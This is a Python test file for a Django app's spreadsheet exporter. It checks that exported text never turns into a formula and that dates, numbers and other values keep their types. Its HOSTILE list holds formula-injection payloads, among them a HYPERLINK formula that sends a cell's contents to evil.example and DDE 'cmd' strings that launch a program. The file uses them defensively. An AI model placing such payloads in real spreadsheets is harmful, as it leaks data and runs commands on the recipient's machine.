"""The spreadsheet writer: text never becomes a formula; numbers, dates and text keep their type."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from apps.core.spreadsheets import HEADER_STYLE, Styled, Workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "http://example.com",
    "0123",
]


def read_back(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("constant_memory", [False, True])
def test_hostile_text_stays_text_with_its_original_characters(tmp_path, constant_memory):
    target = tmp_path / "out.xlsx"
    workbook = Workbook(str(target), constant_memory=constant_memory)
    sheet = workbook.sheet("Dữ liệu")
    sheet.append(["Tiêu đề"], HEADER_STYLE)
    for text in HOSTILE:
        sheet.append([text, Styled(text, {"bold": True})])
    workbook.close()
    rows = list(read_back(target.read_bytes()).iter_rows(min_row=2))
    # The file escapes a carriage return as _x000D_ (Excel shows it back as one); openpyxl
    # does not unescape it.
    expected = [text.replace("\r", "_x000D_") for text in HOSTILE]
    assert [row[0].value for row in rows] == expected
    assert [row[1].value for row in rows] == expected
    assert {cell.data_type for row in rows for cell in row} == {"s"}
    quoted = [row[0].value for row in rows if row[0].quotePrefix]
    assert quoted == expected[:7]  # Excel keeps them text when the cell is edited
    assert all(row[1].font.b for row in rows)


def test_values_keep_their_type_and_dates_are_real_dates():
    workbook = Workbook()
    sheet = workbook.sheet("x" * 40)  # Excel's limit is 31 characters
    moment = timezone.make_aware(datetime.datetime(2026, 3, 1, 9, 30))
    sheet.append(
        [
            datetime.date(1975, 6, 15),
            moment,
            7,
            Decimal("1.5"),
            2.25,
            True,
            None,
            "Nguyễn Văn An",
            Styled(1500000, {"num_format": "#,##0"}),
        ]
    )
    sheet = read_back(workbook.close())
    cells = next(sheet.iter_rows())
    values = [cell.value for cell in cells]
    assert values[0] == datetime.datetime(1975, 6, 15)
    assert cells[0].number_format == "dd/mm/yyyy"
    assert values[1] == datetime.datetime(2026, 3, 1, 9, 30)  # local time, as on the pages
    assert values[2:8] == [7, 1.5, 2.25, True, None, "Nguyễn Văn An"]
    assert (values[8], cells[8].number_format) == (1500000, "#,##0")
    assert sheet.title == "x" * 31
